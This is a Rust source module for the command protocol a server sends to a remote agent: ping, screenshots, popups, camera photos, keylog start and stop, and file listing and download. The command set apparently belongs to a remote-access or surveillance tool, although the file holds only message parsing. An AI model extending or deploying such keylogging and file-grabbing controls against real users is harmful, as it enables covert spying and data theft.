//! Typed view over command messages (server → agent).
//!
//! Each command tag maps to exactly one [`Command`] variant with a fixed set
//! of fields.  Conversion from a decoded [`Message`] tells an unknown tag
//! apart from a known tag whose fields are wrong, because the agent answers
//! the two differently.

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use thiserror::Error;

use crate::protocol::codec::EncodeError;
use crate::protocol::message::{Message, MessageKind};

/// Why a [`Message`] could not be viewed as a [`Command`].
#[derive(Debug, Error, PartialEq)]
pub enum CommandError {
    /// The message is a response, not a command.
    #[error("message is not a command")]
    NotACommand,

    /// No command has this tag.
    #[error("Unknown command: {0}")]
    UnknownTag(String),

    /// The tag is known but its fields do not match.
    #[error("Invalid {tag} command: {reason}")]
    InvalidFields { tag: String, reason: String },
}

/// Icon and button set requested for a `popup`.
///
/// Any unrecognised `type` value selects a plain dialog.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum DialogKind {
    #[default]
    Info,
    Warning,
    Error,
    Question,
    #[serde(other)]
    Plain,
}

impl DialogKind {
    pub fn as_str(self) -> &'static str {
        match self {
            DialogKind::Info => "info",
            DialogKind::Warning => "warning",
            DialogKind::Error => "error",
            DialogKind::Question => "question",
            DialogKind::Plain => "plain",
        }
    }
}

/// A command the server can send to an agent.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "cmd", rename_all = "snake_case")]
pub enum Command {
    Ping,
    Screenshot,
    Popup {
        #[serde(default = "default_popup_title")]
        title: String,
        #[serde(default)]
        message: String,
        #[serde(rename = "type", default)]
        kind: DialogKind,
    },
    Photo,
    KeylogStart,
    KeylogStop,
    FileList {
        /// `None` lists the agent's working directory.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        path: Option<String>,
    },
    FileDownload {
        file_path: String,
    },
    FileInfo {
        file_path: String,
    },
    GetDrives,
    Quit,
}

fn default_popup_title() -> String {
    "Message".to_string()
}

impl Command {
    /// Every command tag, in protocol order.
    pub const TAGS: [&'static str; 11] = [
        "ping",
        "screenshot",
        "popup",
        "photo",
        "keylog_start",
        "keylog_stop",
        "file_list",
        "file_download",
        "file_info",
        "get_drives",
        "quit",
    ];

    /// The wire tag of this command.
    pub fn tag(&self) -> &'static str {
        match self {
            Command::Ping => "ping",
            Command::Screenshot => "screenshot",
            Command::Popup { .. } => "popup",
            Command::Photo => "photo",
            Command::KeylogStart => "keylog_start",
            Command::KeylogStop => "keylog_stop",
            Command::FileList { .. } => "file_list",
            Command::FileDownload { .. } => "file_download",
            Command::FileInfo { .. } => "file_info",
            Command::GetDrives => "get_drives",
            Command::Quit => "quit",
        }
    }

    /// Views a decoded message as a command.
    ///
    /// Extra fields are ignored; a command's `payload` is never inspected.
    ///
    /// # Errors
    ///
    /// - [`CommandError::NotACommand`] for response messages.
    /// - [`CommandError::UnknownTag`] when no command has `msg.tag`.
    /// - [`CommandError::InvalidFields`] when a required field is missing or
    ///   a field has the wrong type.
    pub fn from_message(msg: Message) -> Result<Self, CommandError> {
        if msg.kind != MessageKind::Command {
            return Err(CommandError::NotACommand);
        }
        if !Self::TAGS.contains(&msg.tag.as_str()) {
            return Err(CommandError::UnknownTag(msg.tag));
        }

        let tag_key = MessageKind::Command.tag_key();
        let mut object = Map::with_capacity(msg.fields.len() + 1);
        object.insert(tag_key.to_string(), Value::String(msg.tag.clone()));
        object.extend(msg.fields);

        serde_json::from_value(Value::Object(object)).map_err(|e| CommandError::InvalidFields {
            tag: msg.tag,
            reason: e.to_string(),
        })
    }

    /// Converts the command into its wire [`Message`].
    ///
    /// # Errors
    ///
    /// Returns [`EncodeError::Serialize`] if serde cannot produce an object.
    pub fn to_message(&self) -> Result<Message, EncodeError> {
        let value = serde_json::to_value(self).map_err(|e| EncodeError::Serialize(e.to_string()))?;
        let Value::Object(object) = value else {
            return Err(EncodeError::Serialize(format!(
                "command `{}` did not serialize to an object",
                self.tag()
            )));
        };

        let tag_key = MessageKind::Command.tag_key();
        let mut msg = Message::command(self.tag());
        msg.fields = object.into_iter().filter(|(k, _)| k != tag_key).collect();
        Ok(msg)
    }
}

// ── Tests ─────────────────────────────────────────────────────────────────────
